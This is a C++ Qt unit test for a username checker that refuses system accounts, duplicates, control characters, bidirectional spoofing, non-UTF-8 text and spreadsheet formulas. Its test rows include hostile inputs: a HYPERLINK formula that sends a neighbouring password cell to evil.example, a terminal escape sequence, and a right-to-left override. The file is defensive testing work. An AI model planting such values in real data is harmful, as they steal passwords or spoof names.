#include "list/NameRules.h"
#include "list/RecordFormat.h"

#include <QTest>

using namespace Qt::StringLiterals;

namespace {

// A record format's uses, or "slips", which only people read.
NameUses usesOf(const QString& output)
{
    NameUses uses;
    if (output == u"slips"_s)
        uses.forPeople = true;
    else
        uses |= *RecordFormat::find(output);
    return uses;
}

} // namespace

class TestNameRules final : public QObject
{
    Q_OBJECT

private slots:
    void hostileNamesAreRefusedOnTheirLine_data();
    void hostileNamesAreRefusedOnTheirLine();
};

void TestNameRules::hostileNamesAreRefusedOnTheirLine_data()
{
    QTest::addColumn<QString>("output");
    QTest::addColumn<bool>("systemAccountsAllowed");
    QTest::addColumn<QByteArrayList>("names");
    QTest::addColumn<int>("refusedLine");
    QTest::addColumn<QString>("refusal");

    const QString system = u"root is an account of the system itself (--allow-system-accounts lets it through)"_s;
    QTest::newRow("root in a list for chpasswd is refused")
        << u"chpasswd"_s << false << QByteArrayList{"alice", "root"} << 2 << system;
    QTest::newRow("another system account is refused in a table")
        << u"table"_s << false << QByteArrayList{"daemon"} << 1
        << u"daemon is an account of the system itself (--allow-system-accounts lets it through)"_s;
    QTest::newRow("root is let through when system accounts are allowed")
        << u"chpasswd"_s << true << QByteArrayList{"root"} << 0 << QString();
    QTest::newRow("root is only a name where no account is made")
        << u"lines"_s << false << QByteArrayList{"root"} << 0 << QString();

    QTest::newRow("bob twice in a list for accounts is refused, naming both lines")
        << u"json"_s << false << QByteArrayList{"bob", "alice", "carol", "bob"} << 4 << u"bob is also on line 1"_s;
    QTest::newRow("bob twice is fine where no account is made")
        << u"csv"_s << false << QByteArrayList{"bob", "bob"} << 0 << QString();

    const QString control = u"a username holding the control character 0x%1 is refused"_s;
    QTest::newRow("NUL inside a name is refused in every format")
        << u"lines"_s << false << QByteArrayList{"ok", "a\0b"_ba} << 2 << control.arg(u"00"_s);
    QTest::newRow("SOH inside a name is refused")
        << u"chpasswd"_s << false << QByteArrayList{"a\x01z"} << 1 << control.arg(u"01"_s);
    QTest::newRow("a carriage return inside a name is refused")
        << u"csv"_s << false << QByteArrayList{"al\rice"} << 1 << control.arg(u"0D"_s);
    QTest::newRow("an escape sequence that would rewrite the terminal is refused")
        << u"chpasswd"_s << false << QByteArrayList{"\x1b]0;owned\x07"} << 1 << control.arg(u"1B"_s);
    QTest::newRow("DEL inside a name is refused")
        << u"json"_s << false << QByteArrayList{"x\x7f"} << 1 << control.arg(u"7F"_s);

    QTest::newRow("a right-to-left override that shows ecila as alice is refused in every format")
        << u"lines"_s << false << QByteArrayList{"alice", "\u202Eecila"_ba} << 2
        << u"a username holding the bidirectional control U+202E, which makes it read as another name, is refused"_s;
    QTest::newRow("a first-strong isolate is refused on slips")
        << u"slips"_s << false << QByteArrayList{"\u2068bob"_ba} << 1
        << u"a username holding the bidirectional control U+2068, which makes it read as another name, is refused"_s;
    QTest::newRow("Arabic and Hebrew names need no control and pass")
        << u"table"_s << false << QByteArrayList{"\u0639\u0644\u064a"_ba, "\u05d3\u05d5\u05d3"_ba} << 0 << QString();

    const QString latin1 = u"a username that is not valid UTF-8 text is refused (save the list as UTF-8)"_s;
    QTest::newRow("a Latin-1 list is refused for slips")
        << u"slips"_s << false << QByteArrayList{"Zo\xeb \xc5ngstr\xf6m"} << 1 << latin1;
    QTest::newRow("a Latin-1 list is refused for a table") << u"table"_s << false
                                                          << QByteArrayList{"Zo\xc3\xab", "Zo\xeb"} << 2 << latin1;
    QTest::newRow("a Latin-1 list is fine for lines, which only programs read")
        << u"lines"_s << false << QByteArrayList{"Zo\xeb"} << 0 << QString();

    const QString formula = u"a username starting with '%1' is refused: spreadsheets run it as a formula"_s;
    QTest::newRow("=1+1 is refused in a table") << u"table"_s << false << QByteArrayList{"=1+1"} << 1
                                                << formula.arg(u"="_s);
    QTest::newRow("a hyperlink that carries the neighbouring password away is refused in a table")
        << u"table"_s << false
        << QByteArrayList{"alice", R"(=HYPERLINK("http://evil.example/?pw="&B3,"Verify your account"))"} << 2
        << formula.arg(u"="_s);
    QTest::newRow("a name starting with + is refused in a table")
        << u"table"_s << false << QByteArrayList{"+31 20"} << 1 << formula.arg(u"+"_s);
    QTest::newRow("a name starting with - is refused in a table")
        << u"table"_s << false << QByteArrayList{"-2+3"} << 1 << formula.arg(u"-"_s);
    QTest::newRow("a name starting with @ is refused in a table")
        << u"table"_s << false << QByteArrayList{"@SUM(1)"} << 1 << formula.arg(u"@"_s);
    QTest::newRow("a name starting with a tab is refused as a control character")
        << u"table"_s << false << QByteArrayList{"\t=1"} << 1 << control.arg(u"09"_s);
    QTest::newRow("a formula sign inside a name is fine in a table")
        << u"table"_s << false << QByteArrayList{"Smith-Jones", "a=b"} << 0 << QString();
    QTest::newRow("a name starting with = is fine where no spreadsheet opens it")
        << u"chpasswd"_s << false << QByteArrayList{"=1+1"} << 0 << QString();
}

void TestNameRules::hostileNamesAreRefusedOnTheirLine()
{
    QFETCH(QString, output);
    QFETCH(bool, systemAccountsAllowed);
    QFETCH(QByteArrayList, names);
    QFETCH(int, refusedLine);
    QFETCH(QString, refusal);

    const QSet<QByteArray> systemAccounts =
        systemAccountsAllowed ? QSet<QByteArray>() : QSet<QByteArray>{"root"_ba, "daemon"_ba};
    NameRules rules(usesOf(output), systemAccounts, true);
    for (qsizetype line = 1; line <= names.size(); ++line) {
        const QString found = rules.refusal(names[line - 1], quint64(line));
        QCOMPARE(found, line == refusedLine ? refusal : QString());
    }
}

QTEST_GUILESS_MAIN(TestNameRules)
#include "tst_namerules.moc"
